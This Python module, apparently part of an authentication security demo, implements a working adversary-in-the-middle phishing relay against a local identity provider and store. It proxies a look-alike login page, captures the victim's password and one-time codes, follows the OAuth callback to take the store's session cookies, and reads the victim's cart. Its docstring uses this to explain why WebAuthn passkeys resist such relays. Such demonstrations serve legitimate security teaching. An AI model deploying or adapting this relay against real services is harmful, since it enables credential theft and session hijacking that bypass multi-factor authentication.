"""A real-time phishing relay (an "adversary in the middle", as evilginx and Modlishka do it).

`http://evil.authgate.localhost:<port>/` is a look-alike of the IdP: every request the victim's
browser makes to it is replayed, server-side, to the real IdP with the relay's own cookie jar,
and the answer is shown back to the victim with the IdP's origin rewritten to the relay's. So the
victim sees the real login page, the real second-factor page, and types the real password and the
real one-time code -- into the relay, which passes them on at once.
The phishing link starts at the Store's own `/api/login` (the relay holds the Store's login
transaction). When the IdP finally redirects to the Store's callback with a code, the relay
follows it itself, receives the Store's session cookie, and uses it (reads the victim's cart): a
session in the attacker's hands, whatever the factors were. The victim is sent to the real Store.

What it cannot relay is an origin: a WebAuthn ceremony in the victim's browser runs on
evil.authgate.localhost, so the browser will not use the victim's passkey for the IdP's RP ID,
and any assertion it did produce would carry the relay's origin in its clientDataJSON.
"""
from __future__ import annotations

import asyncio
import contextlib
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import httpx
import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import RedirectResponse, Response

from authgate_demo.attacks import outside
from authgate_demo.attacks.scenarios import claims_of, describe

HOP_HEADERS = {"content-type", "accept", "accept-language"}
SECRET_FIELDS = {"password", "code", "csrf_token"}


@dataclass
class Relay:
    """One relay for one victim; `log` is what it saw and did, `session` the Store session cookies it got."""

    idp_url: str
    store_url: str
    data_path: str
    domain: str = "authgate.localhost"
    port: int = 0
    log: list[str] = field(default_factory=list)
    captured: dict[str, str] = field(default_factory=dict)  # form fields the victim typed (values masked in the log)
    session: dict[str, str] = field(default_factory=dict)
    cart_status: int | None = None
    _server: Any = None
    _task: Any = None
    _http: Any = None

    @property
    def origin(self) -> str:
        return f"http://evil.{self.domain}:{self.port}"

    def app(self) -> FastAPI:
        app = FastAPI(docs_url=None, redoc_url=None, openapi_url=None)

        @app.get("/phish")
        async def phish() -> Response:
            # The attacker starts the Store's own login (its login_tx cookie stays in the relay's jar)
            # and sends the victim to the relayed IdP page.
            start = await self._http.get(self.store_url + "/api/login")
            self.log.append(f"relay: {describe(start)} -> the IdP's authorize URL, relayed to the victim")
            return RedirectResponse(self._to_relay(start.headers["location"]), status_code=302)

        @app.api_route("/{path:path}", methods=["GET", "POST"])
        async def relay(path: str, request: Request) -> Response:
            return await self._forward(request)

        return app

    def _to_relay(self, url: str) -> str:
        return self.origin + url[len(self.idp_url):] if url.startswith(self.idp_url) else url

    async def _forward(self, request: Request) -> Response:
        body = await request.body()
        headers = {k: v for k, v in request.headers.items() if k.lower() in HOP_HEADERS}
        if request.method == "POST":
            headers["Origin"] = self.idp_url  # the relay speaks for the IdP's own page
            if "form" in headers.get("content-type", ""):
                fields = dict(parse_qsl(body.decode(errors="replace")))
                typed = {k: v for k, v in fields.items() if k in ("loginId", "password", "code", "recoveryCode")}
                self.captured.update(typed)
                self.log.append("victim submitted " + ", ".join(
                    f"{k}={'*' * len(v) if k in SECRET_FIELDS else v}" for k, v in typed.items()) + f" to the relay ({request.url.path})")
        target = self.idp_url + request.url.path + (f"?{request.url.query}" if request.url.query else "")
        answer = await self._http.request(request.method, target, content=body, headers=headers)
        location = answer.headers.get("location", "")
        if answer.status_code in (301, 302, 303, 307) and location.startswith(self.store_url):
            return await self._cash_in(answer)
        if answer.status_code in (301, 302, 303, 307):
            return RedirectResponse(self._to_relay(location), status_code=answer.status_code)
        content = answer.content
        kind = answer.headers.get("content-type", "application/octet-stream")
        if kind.startswith(("text/", "application/json", "application/javascript")):
            content = content.replace(self.idp_url.encode(), self.origin.encode())
        if request.method == "POST" and kind.startswith("text/html"):
            self.log.append(f"IdP answered {request.url.path} with \"{outside.page_words(answer.text)}\" -- relayed")
        elif request.method == "POST":
            self.log.append(f"IdP answered POST {request.url.path}: {answer.status_code} -- relayed")
        return Response(content, status_code=answer.status_code, media_type=kind.split(";")[0])

    async def _cash_in(self, answer: httpx.Response) -> Response:
        location = answer.headers["location"]
        self.log.append(f"IdP redirected to the Store's callback ({urlsplit(location).path}?code=…): the relay follows it")
        back = await self._http.get(location)
        self.session = {k: v for k, v in self._http.cookies.items() if k.startswith(("app_", "bff_", "__Host-"))}
        cart = await self._http.get(self.store_url + self.data_path)
        self.cart_status = cart.status_code
        self.log.append(f"relay: {describe(back)}; Store session cookies {sorted(self.session)}; {describe(cart)}")
        jwt = next((v for k, v in self.session.items() if k.endswith("app_jwt")), None)
        if jwt:
            amr = claims_of(jwt).get("amr")
            self.log.append(f"the relayed session's JWT says amr {amr}: to the IdP, the victim logged in" +
                            (" with more than one factor" if amr and "mfa" in amr else ""))
        return RedirectResponse(self.store_url + "/", status_code=303)  # the victim lands on the real Store

    async def start(self) -> None:
        from authgate_demo.attacks.harness import free_port

        self.port = free_port()
        self._http = outside.client()
        config = uvicorn.Config(self.app(), host="127.0.0.1", port=self.port, log_level="warning", access_log=False,
                                lifespan="off")
        self._server = uvicorn.Server(config)
        self._server.capture_signals = contextlib.nullcontext  # type: ignore[method-assign]  # the runner owns Ctrl-C
        self._server.install_signal_handlers = lambda: None  # type: ignore[method-assign]  # older uvicorn
        self._task = asyncio.create_task(self._server.serve())
        while not self._server.started:
            if self._task.done():
                self._task.result()
                raise RuntimeError("the phishing relay did not start")
            await asyncio.sleep(0.02)

    async def stop(self) -> None:
        if self._server is not None:
            self._server.should_exit = True
            with contextlib.suppress(asyncio.CancelledError, Exception):
                await asyncio.wait_for(self._task, timeout=5)
        if self._http is not None:
            await self._http.aclose()
